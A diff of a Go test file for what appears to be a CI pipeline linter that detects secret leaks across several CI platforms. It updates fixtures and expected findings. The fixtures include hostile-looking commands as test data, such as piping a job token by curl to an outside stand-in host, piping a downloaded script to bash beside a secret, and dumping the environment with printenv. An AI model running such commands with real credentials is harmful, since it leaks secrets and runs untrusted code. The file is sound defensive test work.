@@ -58,7 +58,7 @@ func TestPoliciesOnFlows(t *testing.T) {
 		azure     = "steps:\n- env: {T: $(API_TOKEN)}\n  script: |\n"
 		bitbucket = "pipelines:\n  default:\n  - step:\n      script:\n      - |\n"
 		buildkite = "steps:\n- key: a\n  secrets: {T: API_TOKEN}\n  command: |\n"
-		circleci  = "version: 2.1\njobs:\n  a:\n    docker: [{image: 'x:1'}]\n    environment: {T: $API_TOKEN}\n    steps:\n    - run: |\n"
+		circleci  = "version: 2.1\njobs:\n  a:\n    docker: [{image: 'x:1'}]\n    steps:\n    - run: |\n"
 		jenkins   = "pipeline {\n  agent any\n  stages { stage('a') { steps {\n    withCredentials([string(credentialsId: 'api-token', variable: 'T')]) {\n      sh '''\n"
 		closing   = "'''\n    }\n  } } }\n}\n"
 	)
@@ -69,35 +69,33 @@ func TestPoliciesOnFlows(t *testing.T) {
 			`5:16 pipeline/secret_in_log: step 1 of job "a" prints secret API_TOKEN, changed by substring, by echo, and the log does not hide it`},
 		{"a part of a secret in the log", "azure", azure + "          echo ${T:0:4}\n",
 			`4:16 pipeline/secret_in_log: step 1 of job "Job" prints secret API_TOKEN, changed by substring, by echo, and the log does not hide it`},
-		{"a part of a secret in the log", "buildkite", buildkite + "          echo ${T:0:4}\n",
-			`3:16 pipeline/secret_nobody_uses: nothing in job "a" uses secret API_TOKEN, which it gets as T`},
-		{"a part of a secret in the log", "circleci", circleci + "          echo ${T:0:4}\n", ""},
+		{"a part of a secret in the log", "buildkite", buildkite + "          echo $${T:0:4}\n",
+			`5:17 pipeline/secret_in_log: step 1 of job "a" prints secret API_TOKEN, changed by substring, by echo, and the log does not hide it`},
+		{"a part of a secret in the log", "circleci", circleci + "          echo ${API_TOKEN:0:4}\n",
+			`7:16 pipeline/secret_in_log: step 1 of job "a" prints secret API_TOKEN, changed by substring, by echo, and the log does not hide it`},
 		{"a part of a secret in the log", "jenkins", jenkins + "          echo ${T:0:4}\n" + closing,
-			`6:16 pipeline/secret_in_log: step 1 of job "a" prints secret api-token, changed by substring, by echo, and the log does not hide it` + "\n" +
-				`6:16 pipeline/shell_trace: step 1 of job "a" traces its commands, and prints secret api-token with them`},
+			`6:16 pipeline/secret_in_log: step 1 of job "a" prints secret api-token, changed by substring, by echo, and the log does not hide it`},
 		{"a part of a secret in the log", "bitbucket", bitbucket + "          echo ${API_TOKEN:0:4}\n",
 			`6:16 pipeline/secret_in_log: step 1 of job "default/1" prints secret API_TOKEN, changed by substring, by echo, and the log does not hide it`},
 		{"the length of a secret, a test, an input of a program", "github", github + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n", ""},
 		{"the length of a secret, a test, an input of a program", "gitlab", gitlab + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n", ""},
 		{"the length of a secret, a test, an input of a program", "azure", azure + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n", ""},
-		{"the length of a secret, a test, an input of a program", "buildkite", buildkite + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n", ""},
-		{"the length of a secret, a test, an input of a program", "circleci", circleci + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n", ""},
-		{"the length of a secret, a test, an input of a program", "jenkins", jenkins + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n" + closing,
-			`7:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by set -x; only the mask of the log hides it` + "\n" +
-				`8:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by set -x; only the mask of the log hides it`},
+		{"the length of a secret, a test, an input of a program", "buildkite", buildkite + "          echo $${#T}\n          [ -n \"$$T\" ]\n          echo \"$$T\" | sign\n", ""},
+		{"the length of a secret, a test, an input of a program", "circleci", circleci + "          echo ${#API_TOKEN}\n          [ -n \"$API_TOKEN\" ]\n          echo \"$API_TOKEN\" | sign\n", ""},
+		{"the length of a secret, a test, an input of a program", "jenkins", jenkins + "          echo ${#T}\n          [ -n \"$T\" ]\n          echo \"$T\" | sign\n" + closing, ""},
 		{"the length of a secret, a test, an input of a program", "bitbucket", bitbucket + "          echo ${#API_TOKEN}\n          [ -n \"$API_TOKEN\" ]\n          echo \"$API_TOKEN\" | sign\n", ""},
 		{"a whole secret in the log", "github", github + "          echo \"$T\"\n",
 			`9:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by echo; only the mask of the log hides it`},
 		{"a whole secret in the log", "gitlab", gitlab + "          echo \"$T\"\n",
 			`5:17 pipeline/possibly_unmasked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by echo; settings decide whether the log hides it`},
 		{"a whole secret in the log", "jenkins", jenkins + "          echo \"$T\"\n" + closing,
-			`6:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by echo; only the mask of the log hides it` + "\n" +
-				`6:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by set -x; only the mask of the log hides it`},
+			`6:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by echo; only the mask of the log hides it`},
 		{"all variables", "github", github + "          printenv | sort\n",
-			`9:22 pipeline/masked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by sort; only the mask of the log hides it`},
+			`9:11 pipeline/masked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by printenv; only the mask of the log hides it`},
 		{"all variables", "gitlab", gitlab + "          printenv | sort\n",
-			`5:22 pipeline/possibly_unmasked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by sort; settings decide whether the log hides it`},
-		{"all variables", "circleci", circleci + "          printenv | sort\n", ""},
+			`5:11 pipeline/environment_dump: printenv in step 1 of job "a" prints secret API_TOKEN with all other variables`},
+		{"all variables", "circleci", circleci + "          printenv | sort\n          [ -n \"$API_TOKEN\" ]\n",
+			`7:11 pipeline/masked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by printenv; only the mask of the log hides it`},
 		{"a trace", "github", github + "          set -x\n          deploy < <(echo \"$T\")\n",
 			`10:28 pipeline/masked_secret_in_log: step 1 of job "a" prints secret API_TOKEN by set -x; only the mask of the log hides it`},
 		{"a trace", "gitlab", gitlab + "          set -x\n          deploy < <(echo \"$T\")\n",
@@ -126,14 +124,11 @@ func TestPoliciesOnFlows(t *testing.T) {
 		{"a command on another machine", "github", github + "          ssh me@a.example \"deploy $T\"\n",
 			`9:36 pipeline/secret_as_argument_of_ssh: step 1 of job "a" sends secret API_TOKEN as part of a command to another machine`},
 		{"a git URL", "github", github + "          git clone \"https://me:$T@git.example.com/a/b\"\n",
-			`9:33 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to git as an argument` + "\n" +
-				`9:33 pipeline/token_in_git_url: step 1 of job "a" puts secret API_TOKEN into the URL of git clone`},
+			`9:33 pipeline/token_in_git_url: step 1 of job "a" puts secret API_TOKEN into the URL of git clone`},
 		{"a git URL", "gitlab", gitlab + "          git clone \"https://me:$T@git.example.com/a/b\"\n",
-			`5:33 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to git as an argument` + "\n" +
-				`5:33 pipeline/token_in_git_url: step 1 of job "a" puts secret API_TOKEN into the URL of git clone`},
+			`5:33 pipeline/token_in_git_url: step 1 of job "a" puts secret API_TOKEN into the URL of git clone`},
 		{"a git URL", "azure", azure + "          git clone \"https://me:$T@git.example.com/a/b\"\n",
-			`4:33 pipeline/secret_on_command_line: step 1 of job "Job" passes secret API_TOKEN to git as an argument` + "\n" +
-				`4:33 pipeline/token_in_git_url: step 1 of job "Job" puts secret API_TOKEN into the URL of git clone`},
+			`4:33 pipeline/token_in_git_url: step 1 of job "Job" puts secret API_TOKEN into the URL of git clone`},
 		{"a token of the job in a git URL", "gitlab", "a:\n  script:\n  - git clone https://gitlab-ci-token:$CI_JOB_TOKEN@gitlab.example.com/a/b\n",
 			`3:39 pipeline/job_token_in_git_url: step 1 of job "a" puts CI_JOB_TOKEN, the token of the job, into the URL of git clone`},
 		{"a token of the job for another host", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    steps:\n    - env: {T: '${{ github.token }}'}\n      run: 'echo \"$T\" | curl -d @- https://a.example; echo \"$T\" | curl -d @- https://api.github.com/x'\n",
@@ -146,17 +141,14 @@ func TestPoliciesOnFlows(t *testing.T) {
 		{"a file in a cache", "gitlab", "a:\n  script:\n  - npm config set //registry.npmjs.org/:_authToken \"$API_TOKEN\" --location project\n  - echo \"$API_TOKEN\" > .cache/key\n  cache: {paths: [.cache]}\n",
 			`3:54 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to npm as an argument` + "\n" +
 				`5:19 pipeline/secret_in_cache: the cache of job "a" keeps .cache/key, which holds secret API_TOKEN`},
-		{"a file in a cache", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    steps:\n    - uses: actions/cache@v4\n      with: {path: ~/.docker, key: x}\n    - env: {T: '${{ secrets.API_TOKEN }}'}\n      run: echo \"$T\" | docker login -u me --password-stdin\n", ""},
+		{"a file in a cache", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    steps:\n    - uses: actions/cache@v4\n      with: {path: ~/.docker, key: x}\n    - env: {T: '${{ secrets.API_TOKEN }}'}\n      run: echo \"$T\" | docker login -u me --password-stdin\n",
+			`7:20 pipeline/secret_in_cache: the cache of job "a" keeps ~/.docker/config.json, which holds secret API_TOKEN`},
 		{"a build argument", "github", github + "          docker build --build-arg NPM_TOKEN=$T .\n",
-			`9:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret API_TOKEN as build argument NPM_TOKEN, which stays in the image` + "\n" +
-				`9:46 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to docker as an argument`},
+			`9:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret API_TOKEN as build argument NPM_TOKEN, which stays in the image`},
 		{"a build argument", "gitlab", gitlab + "          docker build --build-arg NPM_TOKEN=$T .\n",
-			`5:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret API_TOKEN as build argument NPM_TOKEN, which stays in the image` + "\n" +
-				`5:46 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to docker as an argument`},
+			`5:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret API_TOKEN as build argument NPM_TOKEN, which stays in the image`},
 		{"a build argument", "jenkins", jenkins + "          docker build --build-arg NPM_TOKEN=$T .\n" + closing,
-			`6:46 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by set -x; only the mask of the log hides it` + "\n" +
-				`6:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret api-token as build argument NPM_TOKEN, which stays in the image` + "\n" +
-				`6:46 pipeline/secret_in_process_list: step 1 of job "a" passes secret api-token to docker as an argument, on a machine that others share`},
+			`6:46 pipeline/secret_in_build_arg: step 1 of job "a" passes secret api-token as build argument NPM_TOKEN, which stays in the image`},
 		{"a build secret", "github", github + "          docker build --secret id=npm,env=T .\n", ""},
 		{"an output of a job", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    outputs: {t: '${{ steps.s.outputs.t }}'}\n    steps:\n    - id: s\n      env: {T: '${{ secrets.API_TOKEN }}'}\n      run: echo \"t=$(echo \"$T\" | rev)\" >> $GITHUB_OUTPUT\n",
 			`5:19 pipeline/secret_in_job_output: job "a" makes secret API_TOKEN, changed by reverse, the output t` + "\n" +
@@ -168,7 +160,7 @@ func TestPoliciesOnFlows(t *testing.T) {
 		{"a variable for later steps that is not hidden", "github", github + "          echo \"P=$(echo \"$T\" | jq -r .password)\" >> $GITHUB_ENV\n",
 			`9:19 pipeline/unmasked_variable: step 1 of job "a" sets P to secret API_TOKEN, changed by json, without hiding it`},
 		{"a variable for later steps that is hidden", "github", github + "          P=$(echo \"$T\" | jq -r .password)\n          echo \"::add-mask::$P\"\n          echo \"P=$P\" >> $GITHUB_ENV\n",
-			`11:19 pipeline/unmasked_variable: step 1 of job "a" sets P to secret API_TOKEN, changed by json, without hiding it`},
+			`11:19 pipeline/secret_in_env_file: step 1 of job "a" gives secret API_TOKEN to all later steps as P`},
 		{"a variable for later steps that is not hidden", "azure", azure + "          P=$(echo \"$T\" | rev)\n          echo \"##vso[task.setvariable variable=P]$P\"\n",
 			`5:51 pipeline/unmasked_variable: step 1 of job "Job" sets P to secret API_TOKEN, changed by reverse, without hiding it`},
 		{"a variable for later steps that is hidden", "azure", azure + "          P=$(echo \"$T\" | rev)\n          echo \"##vso[task.setvariable variable=P;issecret=true]$P\"\n", ""},
@@ -199,7 +191,7 @@ func TestPoliciesOnFlows(t *testing.T) {
 			`5:24 pipeline/secret_evaluated_as_code: eval in step 1 of job "a" runs secret API_TOKEN as code` + "\n" +
 				`5:24 pipeline/secret_on_command_line: step 1 of job "a" passes secret API_TOKEN to deploy as an argument`},
 		{"variables of another pipeline", "gitlab", "a:\n  variables: {T: $API_TOKEN}\n  trigger: group/deploy\n",
-			`2:18 pipeline/secret_to_unpinned_component: job "a" gives secret API_TOKEN to group/deploy, which can change at any time`},
+			`2:18 pipeline/secret_to_downstream_pipeline: job "a" hands secret API_TOKEN to group/deploy as T`},
 		{"a secret that nothing uses", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    env: {T: '${{ secrets.API_TOKEN }}'}\n    steps:\n    - run: ls\n    - run: mkdir x\n",
 			`5:15 pipeline/secret_nobody_uses: nothing in job "a" uses secret API_TOKEN, which it gets as T`},
 		{"a secret that one step uses", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    env: {T: '${{ secrets.API_TOKEN }}'}\n    steps:\n    - uses: actions/checkout@v5\n    - run: ls\n    - run: echo \"$T\" | sign\n",
@@ -211,27 +203,25 @@ func TestPoliciesOnFlows(t *testing.T) {
 			`7:20 pipeline/secret_in_env_file: step 1 of job "a" gives secret API_TOKEN to all later steps as T` + "\n" +
 				`7:20 pipeline/secret_set_before_third_party: x/y@v1 gets secret API_TOKEN as T, which step 1 of job "a" sets for later steps`},
 		{"an installation", "github", github + "          npm ci\n          [ -n \"$T\" ]\n",
-			`8:12 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
+			`9:11 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
 		{"an installation", "gitlab", gitlab + "          npm ci\n          [ -n \"$T\" ]\n",
-			`4:5 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
+			`5:11 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
 		{"an installation", "azure", azure + "          npm ci\n          [ -n \"$T\" ]\n",
-			`3:11 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "Job" runs code of dependencies with secret API_TOKEN in its environment`},
-		{"an installation", "buildkite", buildkite + "          npm ci\n          [ -n \"$T\" ]\n",
-			`4:12 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
-		{"an installation", "circleci", circleci + "          npm ci\n          [ -n \"$T\" ]\n", ""},
+			`4:11 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "Job" runs code of dependencies with secret API_TOKEN in its environment`},
+		{"an installation", "buildkite", buildkite + "          npm ci\n          [ -n \"$$T\" ]\n",
+			`5:11 pipeline/secret_during_dependency_install: "npm ci" in step 1 of job "a" runs code of dependencies with secret API_TOKEN in its environment`},
+		{"an installation", "circleci", circleci + "          npm ci\n          [ -n \"$API_TOKEN\" ]\n", ""},
 		{"an installation without scripts", "github", github + "          npm ci --ignore-scripts\n          [ -n \"$T\" ]\n", ""},
 		{"a download that runs", "github", github + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$T\" ]\n",
-			`8:12 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
+			`9:11 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
 		{"a download that runs", "gitlab", gitlab + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$T\" ]\n",
-			`4:5 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
+			`5:11 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
 		{"a download that runs", "azure", azure + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$T\" ]\n",
-			`3:11 pipeline/remote_code_beside_secret: step 1 of job "Job" runs a download as it comes, with secret API_TOKEN in its environment`},
-		{"a download that runs", "buildkite", buildkite + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$T\" ]\n",
-			`3:16 pipeline/secret_nobody_uses: nothing in job "a" uses secret API_TOKEN, which it gets as T` + "\n" +
-				`4:12 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
+			`4:11 pipeline/remote_code_beside_secret: step 1 of job "Job" runs a download as it comes, with secret API_TOKEN in its environment`},
+		{"a download that runs", "buildkite", buildkite + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$$T\" ]\n",
+			`5:11 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret API_TOKEN in its environment`},
 		{"a download that runs", "jenkins", jenkins + "          curl -fsSL https://get.example.com/x.sh | bash\n          [ -n \"$T\" ]\n" + closing,
-			`5:10 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret api-token in its environment` + "\n" +
-				`7:17 pipeline/masked_secret_in_log: step 1 of job "a" prints secret api-token by set -x; only the mask of the log hides it`},
+			`6:11 pipeline/remote_code_beside_secret: step 1 of job "a" runs a download as it comes, with secret api-token in its environment`},
 		{"a download that runs without secrets", "github", "on: push\njobs:\n  a:\n    permissions: {}\n    steps:\n    - run: curl -fsSL https://get.example.com/x.sh | bash\n    - env: {T: '${{ secrets.API_TOKEN }}'}\n      run: echo \"$T\" | sign\n", ""},
 		{"all of a vault", "azure", "steps:\n- task: AzureKeyVault@2\n  inputs: {azureSubscription: s, KeyVaultName: shop, SecretsFilter: '*'}\n- script: ls\n",
 			`3:69 pipeline/whole_store_fetched: step "AzureKeyVault" of job "Job" fetches all of shop`},
@@ -242,7 +232,7 @@ func TestPoliciesOnFlows(t *testing.T) {
 	}
 	for _, test := range tests {
 		t.Run(test.platform+": "+test.name, func(t *testing.T) {
-			got := judge(t, policies, linked(t, test.platform, test.text))
+			got := judgeAll(t, policies, linked(t, test.platform, test.text))
 			if diff := cmp.Diff(test.want, strings.Join(got, "\n")); diff != "" {
 				t.Error(diff)
 			}
